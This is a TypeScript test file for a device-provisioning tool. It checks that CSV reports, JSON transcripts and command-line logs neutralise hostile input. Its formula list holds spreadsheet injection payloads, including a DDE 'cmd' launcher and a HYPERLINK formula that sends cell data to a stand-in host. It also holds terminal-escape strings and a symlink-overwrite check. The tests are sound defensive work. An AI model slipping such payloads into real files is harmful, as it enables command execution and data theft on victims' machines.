// What devices, lists and file names hold that spreadsheet programs, terminals and readers of logs would obey: in
// reports, exports, lines of JSON and words for people it is text.

import { readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { request } from 'node:http';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterEach, describe, expect, it } from 'vitest';
import { mediaTypes } from '../../../core/dm/choices.ts';
import { faultOf } from '../../../core/errors.ts';
import { reportOf } from '../../../core/provisioning/report.ts';
import { reportCsv } from '../../../core/provisioning/report-csv.ts';
import { sessionDetail, sessionLines } from '../../../main/provisioning/session-export.ts';
import { startTestBench, type TestBench } from '../../support/bench.ts';
import { endRunning, runCli, startCli, temporaryFolder } from '../../support/cli.ts';

const formulas = [
  '=1+1',
  '+1+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  'x;=1+1',
  'x\t=1',
  '＝1+1',
  '"=1',
  "'=1",
  '=HYPERLINK("http://elsewhere.example/?"&A1,"x")',
];
const controls = 'a\u001b[2J\u009b31m\u202eb\r\nforged\u2028c\u0000\u0007\u007f\u200bd';
const unseen = /[\p{Cc}\p{Bidi_Control}\p{Zl}\p{Zp}]/u;

describe('a report as CSV', () => {
  const csv = (text: string) => {
    const fault = faultOf('DEVICE_UNKNOWN', { device: text });
    const state = { kind: 'failed', station: text, fault, reached: 'nothing' } as const;
    const source = { line: 1, deviceId: text, label: text, variables: { site: text, [text]: 'x' }, state };
    return reportCsv(
      reportOf({ batchId: 'b', name: text, profile: { name: text, version: 1 }, list: text, createdAt: 0 }, [
        { ...source, attempts: 1, reported: {} },
      ]),
    );
  };

  it.each(formulas)('runs nothing: %j', (formula) => {
    const text = csv(formula);
    for (const delimiter of [',', ';', '\t']) {
      const lines: string[][] = parse(text.slice(1), {
        delimiter,
        relax_quotes: true,
        relax_column_count: true,
      });
      for (const cell of lines.flat()) expect(cell, delimiter).not.toMatch(/^\s*[=+@＝]|^-[^\d]/);
    }
  });

  it('has a line a row, whatever is in it', () => {
    for (const text of [...formulas, controls]) {
      const rows: string[][] = parse(csv(text).slice(1));
      expect(rows).toHaveLength(2);
      expect(new Set(rows.map((row) => row.length)).size).toBe(1);
    }
  });
});

const devInfo = 'urn:oma:mo:oma-dm-devinfo:1.0';
const deviceId = 'UUID:1';
const order = {
  profile: {
    name: 'profile.json',
    text: JSON.stringify({
      name: 'test',
      device: { id: 'UUID:{{number}}', label: 'Device {{number}}' },
      columns: { number: {} },
      server: { id: 'dm-bench', name: 'DM Bench' },
      permits: [devInfo],
      configurations: {},
      bootstrap: [],
      simulatedDevice: { DevID: 'UUID:{{number}}' },
      sessionPlan: [{ step: 'Look', commands: [{ command: 'GET', target: `${devInfo}//` }] }],
    }),
  },
  list: { name: 'list.csv', text: 'number\n1\n' },
};

const alertOf = (text: string) =>
  JSON.stringify({
    MOS: [],
    Alert: [{ AlertType: text, SourceURI: text, Mark: text, Data: { [text]: text } }],
  });
const reportOfDevice = (text: string) =>
  JSON.stringify({
    Status: [
      { sc: 200, Data: [{ ClientURI: `${devInfo}//`, MOData: { DevInfo: { [text]: text, Mod: text } } }] },
    ],
  });

describe('a transcript', () => {
  let started: TestBench | undefined;
  afterEach(() => started?.close());

  it('is a line of JSON each, as it is kept and as it is exported', async () => {
    started = await startTestBench(order);
    for (const text of [controls, ...formulas]) {
      expect((await started.post(deviceId, alertOf(text))).status).toBe(200);
      expect((await started.post(deviceId, reportOfDevice(text), 3)).status).toBe(200);
    }
    const { sessions } = started.bench.store;
    for (const { sessionId } of sessions.ofDevice(deviceId)) {
      const detail = sessionDetail(started.bench.store, sessionId);
      const lines = sessionLines(detail).trimEnd().split('\n');
      expect(lines).toHaveLength(detail.transcript.length + 1);
      for (const line of lines) expect(JSON.parse(line)).toHaveProperty('kind');
    }
  });
});

describe('the command line', () => {
  afterEach(endRunning);

  /** Sends a package with headers as they are; HTTP clients would put some of them right. */
  const send = (dm: string, headers: Record<string, string>, body: string) =>
    new Promise<number>((resolve, reject) => {
      const sent = request(dm, { method: 'POST', headers }, (answer) => {
        answer.resume();
        answer.on('end', () => resolve(answer.statusCode ?? 0));
      });
      sent.once('error', reject);
      sent.end(body);
    });

  it('tells each event in one line that shows, whatever devices send', async () => {
    const folder = temporaryFolder('injection');
    const cli = startCli('serve', '--data', folder, '--port', '0', '--https-port', '0');
    let output = '';
    cli.process.stdout?.setEncoding('utf8').on('data', (text: string) => {
      output += text;
    });
    const { dm } = (await cli.line(({ event }) => event === 'listening')) as unknown as { dm: string };
    const before = cli.lines.length;
    const basic = `Basic ${Buffer.from(`${controls}:${controls}`).toString('base64')}`;
    const shown = [
      'a\u009b31m\u0085b',
      '\u00ad\u00a0<script>',
      '=cmd()',
      '{"event":"listening"}',
      'x'.repeat(8_000),
    ];
    for (const id of shown)
      for (const type of [mediaTypes.package1, 'text/\u009bhtml', mediaTypes.package3])
        expect(
          await send(
            dm,
            { 'omadm-devid': id, authorization: basic, 'content-type': type },
            alertOf(controls),
          ),
        ).toBeGreaterThanOrEqual(400);
    await cli.line(({ event }) => event === 'refused');
    cli.process.kill('SIGTERM');
    await cli.exit;
    expect(cli.lines.length).toBeGreaterThan(before);
    for (const line of output.trimEnd().split('\n')) {
      expect(line).not.toMatch(unseen);
      expect(JSON.parse(line)).toHaveProperty('event');
    }
    expect(cli.lines.filter(({ event }) => event === 'listening')).toHaveLength(1);
    for (const line of cli.errors().split('\n')) expect(line).not.toMatch(unseen);
  });

  it('names files and places of a list in lines that show', async () => {
    const folder = temporaryFolder('injection');
    const name = path.join(folder, 'list \u001b[31m\u202e\u009b.csv');
    writeFileSync(name, `number\n1,\u001b[2J\u202e2\n${controls}\n"\n`);
    const profile = path.join(folder, 'profile.json');
    writeFileSync(profile, order.profile.text);
    for (const list of [name, `${name}\u0007.missing`, path.join(folder, '..', '\u009b', '..', 'nowhere')]) {
      const run = await runCli('devices', 'check', list, '--profile', profile);
      expect(run.code).toBe(1);
      expect(run.errors).toMatch(/LIST_|FILE_UNREADABLE/);
      expect(run.errors).not.toMatch(/stack|at async/);
      for (const line of run.errors.split('\n')) expect(line).not.toMatch(unseen);
    }
  });

  it.skipIf(process.platform === 'win32')(
    'writes reports where it was told, and through no link',
    async () => {
      const folder = temporaryFolder('injection');
      const precious = path.join(folder, 'precious');
      writeFileSync(precious, 'kept');
      const report = path.join(folder, 'report.csv');
      for (const link of [report, `${report}.new`]) symlinkSync(precious, link);
      const examples = path.join(import.meta.dirname, '../../../examples');
      const run = await runCli(
        ...['provision', '--data', path.join(folder, 'data'), '--station', 'virtual', '--report', report],
        ...['--profile', path.join(examples, 'gateway.profile.json')],
        ...['--devices', path.join(examples, 'devices-3.csv'), '--port', '0'],
      );
      expect(run.code, run.errors).toBe(0);
      expect(readFileSync(precious, 'utf8')).toBe('kept');
      expect(readFileSync(report, 'utf8')).toContain('352099001761408');
    },
  );
});
